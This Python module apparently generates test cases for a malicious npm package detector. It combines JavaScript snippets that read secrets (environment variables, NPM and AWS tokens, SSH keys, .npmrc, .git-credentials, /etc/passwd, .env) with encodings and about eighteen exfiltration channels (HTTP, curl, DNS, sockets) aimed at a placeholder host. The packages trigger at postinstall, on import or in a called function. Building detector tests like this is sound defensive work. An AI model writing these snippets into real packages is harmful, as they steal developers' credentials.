"""JavaScript that sends what it takes."""

from tests.combinations.parts import ADDRESS, HOST, Plan
from tests.evasions.case import Case, package

HEAD = (
    "const fs = require('fs'), path = require('path'), cp = require('child_process'), os = require('os');\n"
)
TAKEN = {
    "environment": "const D = process.env;",
    "environment-as-text": "const D = JSON.stringify(process.env);",
    "token": "const D = process.env.NPM_TOKEN;",
    "cloud-keys": "const D = { k: process.env.AWS_ACCESS_KEY_ID, s: process.env.AWS_SECRET_ACCESS_KEY };",
    "npmrc": "const D = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');",
    "npmrc-by-variable": "const D = fs.readFileSync(process.env.HOME + '/.npmrc', 'utf8');",
    "ssh-key": "const D = fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa')).toString();",
    "cloud-file": "const D = fs.readFileSync(`${os.homedir()}/.aws/credentials`, 'utf8');",
    "git-credentials": "const D = fs.readFileSync(os.homedir() + '/.git-credentials', 'utf8');",
    "who": "const D = JSON.stringify({ h: os.hostname(), u: os.userInfo().username, d: __dirname });",
    "programs-say": "const D = cp.execSync('whoami && hostname && ifconfig').toString();",
    "token-of-a-program": "const D = cp.execSync('gh auth token').toString();",
    "ssh-folder": "const dir = path.join(os.homedir(), '.ssh');\nconst D = fs.readdirSync(dir).map(f => fs.readFileSync(path.join(dir, f), 'utf8'));",
    "accounts": "const D = fs.readFileSync('/etc/passwd', 'utf8');",
    "dotenv": "const D = fs.readFileSync(path.join(process.cwd(), '.env'), 'utf8');",
}
MADE = {
    "plain": "const S = typeof D === 'string' ? D : JSON.stringify(D);",
    "base64": "const S = Buffer.from(typeof D === 'string' ? D : JSON.stringify(D)).toString('base64');",
    "json": "const S = JSON.stringify({ data: D, t: Date.now() });",
    "hex": "const S = Buffer.from(JSON.stringify(D)).toString('hex');",
    "address": "const S = encodeURIComponent(JSON.stringify(D));",
    "packed": "const S = require('zlib').gzipSync(JSON.stringify(D)).toString('base64');",
    "kept": "const kept = {};\nkept.text = D;\nconst S = JSON.stringify(kept);",
}
SENT = {
    "request": f"const r = require('https').request({{ hostname: '{HOST}', path: '/in', method: 'POST' }}, () => {{}});\nr.write(S);\nr.end();",
    "query": f"require('https').get('{ADDRESS}?d=' + S);",
    "fetch": f"fetch('{ADDRESS}', {{ method: 'POST', body: S }});",
    "fetch-of-options": f"const o = {{ method: 'POST' }};\no.body = S;\nfetch('{ADDRESS}', o);",
    "fetch-query": f"fetch(`{ADDRESS}?d=${{S}}`);",
    "axios": f"require('axios').post('{ADDRESS}', {{ S }});",
    "axios-of-settings": f"const axios = require('axios');\naxios({{ url: '{ADDRESS}', method: 'post', data: S }});",
    "axios-made": f"const client = require('axios').create({{ baseURL: '{ADDRESS}' }});\nclient.post('/', {{ S }});",
    "got": f"require('got').post('{ADDRESS}', {{ json: {{ S }} }});",
    "form": f"require('request').post({{ url: '{ADDRESS}', form: {{ S }} }});",
    "superagent": f"require('superagent').post('{ADDRESS}').send({{ S }}).end(() => {{}});",
    "curl": f"cp.exec(`curl -X POST -d '${{S}}' {ADDRESS}`);",
    "curl-of-words": f"cp.spawn('curl', ['-d', S, '{ADDRESS}']);",
    "name-server": f"require('dns').lookup(S.slice(0, 50) + '.{HOST}', () => {{}});",
    "socket": f"const s = require('net').connect(443, '{HOST}', () => {{\n  s.write(S);\n  s.end();\n}});",
    "web-socket": f"const W = require('ws');\nconst w = new W('wss://{HOST}');\nw.on('open', () => w.send(S));",
    "address-object": f"const https = require('https');\nconst r = https.request(new URL('{ADDRESS}'), {{ method: 'POST' }});\nr.end(S);",
    "undici": f"require('undici').request('{ADDRESS}', {{ method: 'POST', body: S }});",
}


def at_place(id_: str, place: str, code: str) -> Case:
    """A package that runs code at install, when it is imported, or in a function of another file that it calls then."""
    if place == "install":
        manifest = package(scripts={"postinstall": "node scripts/setup.js"})
        files = {"package.json": manifest, "index.js": "module.exports = 1;\n", "scripts/setup.js": code}
    elif place == "import":
        files = {"package.json": package(), "index.js": code}
    else:
        inside = "".join(f"  {line}\n" for line in code.splitlines())
        core = f"exports.go = function go() {{\n{inside}}};\n"
        files = {
            "package.json": package(),
            "index.js": "require('./lib/core').go();\n",
            "lib/core.js": core,
        }
    return Case(id_, "npm", files)


def _make(id_: str, place: str, begin: str, middle: str, end: str) -> Case:
    return at_place(id_, place, f"{HEAD}{begin}\n{middle}\n{end}\n")


PLAN = Plan("npm-taken", TAKEN, MADE, SENT, ("install", "import", "function"), _make)
